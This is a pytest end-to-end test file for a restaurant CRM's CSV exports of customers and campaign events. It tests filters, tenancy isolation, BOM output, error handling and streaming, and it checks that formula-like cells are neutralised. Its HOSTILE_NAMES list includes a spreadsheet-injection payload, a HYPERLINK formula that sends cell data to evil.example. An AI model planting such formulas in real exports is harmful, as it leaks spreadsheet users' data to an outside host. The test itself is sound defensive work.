"""CSV exports: /api/customers/export.csv (the list's filters, or a saved segment) and
/api/campaigns/{id}/events/export.csv: contents, tenancy, spreadsheet-safe cells, the BOM, errors
decided before the stream, and a stream that gives its connection back when the client leaves."""

from __future__ import annotations

import csv
import io
import threading
import uuid
from datetime import timedelta

import pytest
import sqlalchemy

from crm import csv_format
from crm.read_model.export_queries import CUSTOMER_COLUMNS, OUTREACH_COLUMNS
from tests.e2e.e2e_support import (
    assert_created,
    assert_error,
    assert_invalid,
    completed_with_failures,
    ids,
    wait_for_status,
    when,
)

CUSTOMERS = "/api/customers/export.csv"
BOM = b"\xef\xbb\xbf"
HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2", "@x", "'=already quoted"]


def events_path(campaign: dict) -> str:
    return f"/api/campaigns/{campaign['id']}/events/export.csv"


def exported(response) -> tuple[list[str], list[dict]]:
    """The header and the rows (dicts) of a CSV answer, after checking it is one."""
    assert response.status_code == 200, (response.status_code, response.get_data(as_text=True))
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="')
    data = response.get_data()
    assert not data.startswith(BOM)
    reader = csv.reader(io.StringIO(data.decode("utf-8"), newline=""))
    header, *rows = list(reader)
    return header, [dict(zip(header, row, strict=True)) for row in rows]


def column(rows: list[dict], name: str) -> list[str]:
    return [row[name] for row in rows]


# -- customers ---------------------------------------------------------------------------------


def test_customers_export_holds_the_list_rows_in_the_list_order(admin, make, clock):
    restaurant = make.restaurant("Pizza Palace")
    ann = make.customer(restaurant, "ann@example.com", first_name="Ann", last_name="Lee")
    first_visit = clock.now - timedelta(days=3)
    make.visit(ann, 2_500, first_visit)
    make.visit(ann, 1_000, clock.now - timedelta(days=1))
    clock.advance(seconds=1)
    bob = make.customer(restaurant, "bob@example.com", first_name="Bob")
    admin.post(f"/api/customers/{bob['id']}/unsubscribe/")
    clock.advance(seconds=1)
    gone = make.customer(restaurant, "gone@example.com")
    assert admin.delete(f"/api/customers/{gone['id']}/").status_code == 204
    erased = make.customer(restaurant, "erased@example.com")
    assert admin.post(f"/api/customers/{erased['id']}/erase/").status_code == 204

    header, rows = exported(admin.get(CUSTOMERS))

    assert tuple(header) == CUSTOMER_COLUMNS
    assert CUSTOMER_COLUMNS == (
        "id",
        "email",
        "first_name",
        "last_name",
        "email_consent",
        "external_id",
        "total_spend_cents",
        "visit_count",
        "first_visit_at",
        "last_visit_at",
        "created_at",
    )
    # Check the rows are the list's (deleted and erased customers left out), newest first.
    assert column(rows, "id") == ids(make.get("/api/customers/")) == [bob["id"], ann["id"]]
    listed = make.get(f"/api/customers/{ann['id']}/")
    row = rows[1]
    assert (row["email"], row["first_name"], row["last_name"]) == ("ann@example.com", "Ann", "Lee")
    assert (row["email_consent"], row["external_id"]) == ("subscribed", "")
    assert (row["total_spend_cents"], row["visit_count"]) == ("3500", "2")
    assert when(row["first_visit_at"]) == first_visit
    assert when(row["last_visit_at"]) == when(listed["last_visit_at"])
    assert when(row["created_at"]) == when(listed["created_at"])
    assert row["created_at"].endswith("+00:00")
    assert (rows[0]["email_consent"], rows[0]["first_visit_at"], rows[0]["last_visit_at"]) == ("unsubscribed", "", "")


def test_customers_export_takes_the_list_filters(admin, make):
    pizza, tacos = make.restaurant("Pizza"), make.restaurant("Tacos")
    make.customer(pizza, "ann@example.com", first_name="Ann")
    make.customer(pizza, "bob@example.com", first_name="Bob", last_name="Annson")
    make.customer(tacos, "anna@example.com", first_name="Anna")

    cases = [{"restaurant_id": pizza["id"]}, {"search": "ANN"}, {"restaurant_id": pizza["id"], "search": "ann"}]
    for query in cases:
        _, rows = exported(admin.get(CUSTOMERS, query_string=query))
        # Check each filter selects what the list selects, in its order.
        assert column(rows, "id") == ids(make.get("/api/customers/", query_string=query)), query
    _, rows = exported(admin.get(CUSTOMERS, query_string={"restaurant_id": pizza["id"], "search": "ann"}))
    assert sorted(column(rows, "email")) == ["ann@example.com", "bob@example.com"]


def test_customers_export_of_a_saved_segment_holds_its_members(admin, make, clock):
    restaurant = make.restaurant()
    regular = make.customer(restaurant, "regular@example.com")
    clock.advance(seconds=1)
    recent = make.customer(restaurant, "recent@example.com")
    make.customer(restaurant, "never@example.com")
    for _ in range(2):
        make.visit(regular, 6_000, clock.now - timedelta(days=40))
    make.visit(recent, 1_500, clock.now - timedelta(days=2))
    regulars = {"field": "visit_count", "op": "gte", "value": 1}
    recent_spenders = {"field": "spend_cents_in_last_days", "op": "gte", "value": 1_000, "days": 30}

    for rule, expected in ((regulars, [recent, regular]), (recent_spenders, [recent])):
        segment = assert_created(
            admin.post("/api/segments/", json={"restaurant": restaurant["id"], "name": "S", "rule": rule})
        )
        _, rows = exported(admin.get(CUSTOMERS, query_string={"segment": segment["id"]}))
        # Check the export holds the segment's members, as its customers list shows them.
        members = make.get(f"/api/segments/{segment['id']}/customers/")
        assert column(rows, "id") == ids(members) == [c["id"] for c in expected], rule
    _, rows = exported(admin.get(CUSTOMERS, query_string={"segment": segment["id"], "search": "nobody"}))
    assert rows == []


def test_a_restaurant_key_exports_only_its_own_restaurant(make, key_of, admin):
    mine, theirs = make.restaurant("Mine"), make.restaurant("Theirs")
    own = make.customer(mine, "own@example.com")
    make.customer(theirs, "other@example.com")
    segment = assert_created(
        admin.post(
            "/api/segments/",
            json={"restaurant": theirs["id"], "name": "All", "rule": {"field": "visit_count", "op": "gte", "value": 0}},
        )
    )
    my_key = key_of(mine)

    _, rows = exported(my_key.get(CUSTOMERS))
    assert column(rows, "id") == [own["id"]]
    # Check naming the other restaurant finds nothing, and its segment is not found.
    _, rows = exported(my_key.get(CUSTOMERS, query_string={"restaurant_id": theirs["id"]}))
    assert rows == []
    assert_error(my_key.get(CUSTOMERS, query_string={"segment": segment["id"]}), 404)
    _, rows = exported(admin.get(CUSTOMERS, query_string={"segment": segment["id"]}))
    assert column(rows, "email") == ["other@example.com"]


def test_cells_that_a_spreadsheet_would_run_start_with_a_quote(admin, make):
    restaurant = make.restaurant()
    people = {name: make.customer(restaurant, first_name=name, last_name="Plain")["id"] for name in HOSTILE_NAMES}

    _, rows = exported(admin.get(CUSTOMERS))

    by_id = {row["id"]: row for row in rows}
    assert {name: by_id[id]["first_name"] for name, id in people.items()} == {
        name: "'" + name for name in HOSTILE_NAMES
    }
    assert {by_id[id]["last_name"] for id in people.values()} == {"Plain"}
    # Check an import reading the file back gets exactly the names that were exported.
    assert {name: csv_format.unescaped(by_id[id]["first_name"]) for name, id in people.items()} == {
        name: name for name in HOSTILE_NAMES
    }


@pytest.mark.parametrize("bom", ["true", "false", None])
def test_a_bom_only_when_asked_for(admin, make, bom):
    restaurant = make.restaurant()
    make.customer(restaurant, "zoe@example.com", first_name="Zoë")
    query = {} if bom is None else {"bom": bom}

    data = admin.get(CUSTOMERS, query_string=query).get_data()

    assert data.startswith(BOM) == (bom == "true")
    text = data.decode("utf-8-sig")
    assert text.startswith("id,email,") and "Zoë" in text and text.endswith("\r\n")


# -- errors, decided before the stream ------------------------------------------------------


def test_unknown_ids_are_json_404s(admin, make):
    make.restaurant()

    assert_error(admin.get(CUSTOMERS, query_string={"segment": str(uuid.uuid4())}), 404)
    assert_error(admin.get(f"/api/campaigns/{uuid.uuid4()}/events/export.csv"), 404)


@pytest.mark.parametrize(
    "path, query, field",
    [
        (CUSTOMERS, {"bom": "yes"}, "bom"),
        (CUSTOMERS, {"bom": "1"}, "bom"),
        (CUSTOMERS, {"restaurant_id": "not-a-uuid"}, "restaurant_id"),
        (CUSTOMERS, {"segment": "42"}, "segment"),
        (CUSTOMERS, {"search": ""}, "search"),
        ("/api/campaigns/{campaign}/events/export.csv", {"status": "lost"}, "status"),
        ("/api/campaigns/{campaign}/events/export.csv", {"bom": "TRUE"}, "bom"),
    ],
)
def test_bad_arguments_are_json_400s(admin, make, path, query, field):
    campaign = make.campaign(make.restaurant())

    assert_invalid(admin.get(path.format(campaign=campaign["id"]), query_string=query), field)


def test_without_a_key_it_is_a_401(client):
    response = client.get(CUSTOMERS)
    assert response.status_code == 401 and response.is_json


def test_openapi_documents_the_exports_as_csv(client):
    spec = client.get("/api/openapi.json").get_json()

    for path in (CUSTOMERS, "/api/campaigns/{campaign_id}/events/export.csv"):
        operation = spec["paths"][path]["get"]
        assert operation["responses"]["200"]["content"] == {"text/csv": {"schema": {"type": "string"}}}
        assert "Content-Disposition" in operation["responses"]["200"]["headers"]
        assert {"400", "401", "404"} <= set(operation["responses"]), path
    parameters = {p["name"] for p in spec["paths"][CUSTOMERS]["get"]["parameters"]}
    assert parameters == {"restaurant_id", "search", "segment", "bom"}


# -- streaming ----------------------------------------------------------------------------------


class HeldHere:
    """The database connections checked out by this thread and not yet back in the pool (the
    pool's own count includes other threads': the key erasure follower's, on PostgreSQL)."""

    def __init__(self, engine):
        self.engine = engine
        self.thread = threading.get_ident()
        self.held: set[int] = set()

    def __enter__(self):
        sqlalchemy.event.listen(self.engine, "checkout", self._out)
        sqlalchemy.event.listen(self.engine, "checkin", self._in)
        return self

    def __exit__(self, *exc):
        sqlalchemy.event.remove(self.engine, "checkout", self._out)
        sqlalchemy.event.remove(self.engine, "checkin", self._in)

    def _out(self, dbapi_connection, record, proxy):
        if threading.get_ident() == self.thread:
            self.held.add(id(record))

    def _in(self, dbapi_connection, record):
        self.held.discard(id(record))

    def __len__(self) -> int:
        return len(self.held)


def test_the_file_is_streamed_and_its_connection_returns_when_the_client_leaves(admin, make, container, monkeypatch):
    monkeypatch.setattr(csv_format, "_CHUNK_CHARACTERS", 1)  # a chunk per row
    restaurant = make.restaurant()
    for n in range(5):
        make.customer(restaurant, f"guest{n}@example.com")

    with HeldHere(container.engine) as held:
        response = admin.get(CUSTOMERS, buffered=False)
        assert response.status_code == 200 and response.is_streamed
        chunks = iter(response.response)
        # Check the header comes before any row is read, then a connection is in use.
        assert next(chunks).startswith(b"id,email,")
        assert len(held) == 0
        assert b"guest" in next(chunks)
        assert len(held) == 1
        response.close()  # the client went away mid-file

        assert len(held) == 0


def test_a_whole_file_gives_its_connection_back(admin, make, container):
    make.customer(make.restaurant())

    with HeldHere(container.engine) as held:
        exported(admin.get(CUSTOMERS))

        assert len(held) == 0


# -- campaign outreach ------------------------------------------------------------------------


def test_campaign_events_export_after_a_run(admin, make, restaurant, clock, embedded):
    lapsed = [make.customer(restaurant, first_name=f"Lapsed{n}") for n in range(3)]
    clock.advance(days=40)
    campaign = make.campaign(restaurant, name="=SUM(A1:A9) win back")
    assert admin.post(f"/api/campaigns/{campaign['id']}/run/").status_code == 202
    wait_for_status(admin, campaign, "completed")

    header, rows = exported(admin.get(events_path(campaign)))

    assert tuple(header) == OUTREACH_COLUMNS
    assert OUTREACH_COLUMNS == (
        "id",
        "campaign_id",
        "campaign_name",
        "customer_id",
        "customer_email",
        "channel",
        "status",
        "error_message",
        "attempts",
        "sent_at",
        "created_at",
    )
    listed = make.get(f"/api/campaigns/{campaign['id']}/events/", query_string={"page_size": 100})["results"]
    # Check one row per recipient, the events list's, in its order.
    assert column(rows, "id") == [e["id"] for e in listed]
    assert sorted(column(rows, "customer_id")) == sorted(c["id"] for c in lapsed)
    for row, event in zip(rows, listed, strict=True):
        assert row["campaign_id"] == campaign["id"]
        assert row["campaign_name"] == "'=SUM(A1:A9) win back"
        assert (row["customer_email"], row["channel"], row["status"]) == (event["customer_email"], "email", "sent")
        assert (row["error_message"], row["attempts"]) == ("", "1")
        assert when(row["sent_at"]) == when(event["sent_at"]) and when(row["created_at"]) == when(event["created_at"])


def test_campaign_events_export_filters_by_status_and_shows_errors(admin, make, container, restaurant):
    campaign = completed_with_failures(make, container, restaurant, failing=1, sent=2)

    _, rows = exported(admin.get(events_path(campaign)))
    _, failed = exported(admin.get(events_path(campaign), query_string={"status": "failed"}))

    assert sorted(column(rows, "status")) == ["failed", "sent", "sent"]
    assert [(row["status"], row["attempts"], row["error_message"]) for row in failed] == [
        ("failed", "3", "gave up after 3 attempts: 421 busy")
    ]


def test_campaign_events_export_is_404_to_another_restaurant(make, key_of, admin):
    mine, theirs = make.restaurant("Mine"), make.restaurant("Theirs")
    their_campaign = make.campaign(theirs)
    my_campaign = make.campaign(mine)
    my_key = key_of(mine)

    assert_error(my_key.get(events_path(their_campaign)), 404)
    header, rows = exported(my_key.get(events_path(my_campaign), query_string={"bom": "false"}))
    assert tuple(header) == OUTREACH_COLUMNS and rows == []
    assert exported(admin.get(events_path(their_campaign)))[1] == []
